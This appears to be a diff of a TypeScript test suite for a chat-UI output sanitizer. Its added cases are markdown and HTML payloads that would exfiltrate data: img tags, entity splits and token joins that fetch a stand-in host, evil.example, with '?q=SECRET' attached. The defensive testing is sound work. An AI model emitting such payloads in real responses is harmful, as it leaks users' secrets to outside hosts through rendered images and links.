@@ -55,7 +55,7 @@ const FETCHES: Record<string, string> = {
   'quoted > in an earlier attribute': `<img alt="a>b" src="${EVIL}">`,
   'quoted < in an earlier attribute (in an HTML block)': block(`<img alt='a<b' src=${EVIL}>`),
   'line breaks inside the tag (in an HTML block)': block(`<img\nalt="x"\nsrc="${EVIL}"\n>`),
-  'tag longer than 2,048 characters': `<img alt="${'a'.repeat(3000)}" src="${EVIL}">`,
+  'tag longer than 2,048 characters': `<img alt="${'a'.repeat(2100)}" src="${EVIL}">`,
   'unclosed tag, closed by what the renderer writes next': `<div>\n<img src=${EVIL}\n\nNext paragraph.`,
   'slash as attribute separator (in an HTML block)': block(`<img/src="${EVIL}">`),
   'upper-case tag and attribute': `<IMG SRC="${EVIL}">`,
@@ -78,6 +78,10 @@ const FETCHES: Record<string, string> = {
   'svg image xlink:href': `<svg><image xlink:href="${EVIL}"/></svg>`,
   'input type=image': `<input type="image" src="${EVIL}">`,
   'base href moves relative images': '<base href="https://evil.example/">\n\n![a](x.png?q=SECRET)',
+  'removed tag would join ! and a link': `!<img src="${EVIL}">[a](https://evil.example/y.png?q=SECRET)`,
+  'removed tag would complete an entity': '![a](https&#5<img src=//evil.example/1>8;//evil.example/x.png?q=SECRET)',
+  'removed tag would join a path into //host': '![a](/<img src=//evil.example/1>/evil.example/x.png?q=SECRET)',
+  'removed tag would expose the next word as destination': `![a](<img src=//evil.example/1> ${EVIL})`,
   'event handler': `<img src="x.png" onerror="this.src='${EVIL}'">`,
 };
 
@@ -90,6 +94,14 @@ const LINKS: Record<string, string> = {
   'html anchor': '<a href="https://evil.example/?q=SECRET">x</a>',
   'reference link': '[click][r]\n\n[r]: https://evil.example/?q=SECRET\n',
   'form action': '<form action="https://evil.example/"><button>go</button></form>',
+};
+
+/** Texts harmless as written whose pieces could join once a removal brings them together. */
+const JOINS: Record<string, string> = {
+  'removed link text would complete an entity':
+    '![a](https&#5[8;](https://evil.example/)//evil.example/x.png?q=SECRET)',
+  'removed bare URL would complete an entity': '![a](https&#5https://evil.example/8;//evil.example/x.png?q=SECRET)',
+  'removed image would join ! and a link': '!![c](//evil.example/1)[a](https://evil.example/y.png?q=SECRET)',
 };
 
 /** Answers that must come out byte for byte. */
@@ -137,6 +149,17 @@ describe('exfiltration forms, rendered as a chat UI renders them', () => {
             [...text].map((_, i) => i),
           ),
         ).toBe(whole);
+      }
+    }, 120_000);
+  }
+
+  for (const [name, text] of Object.entries(JOINS)) {
+    it(`${name}: nothing joins into a fetch (JSON and every split)`, () => {
+      for (const links of [false, true]) {
+        const policy = urlPolicy(links);
+        const whole = policy.whole(text).text;
+        expect(violations(whole, ALLOW, links), whole).toEqual([]);
+        for (let k = 0; k <= text.length; k++) expect(streamCut(policy, text, [k])).toBe(whole);
       }
     });
   }
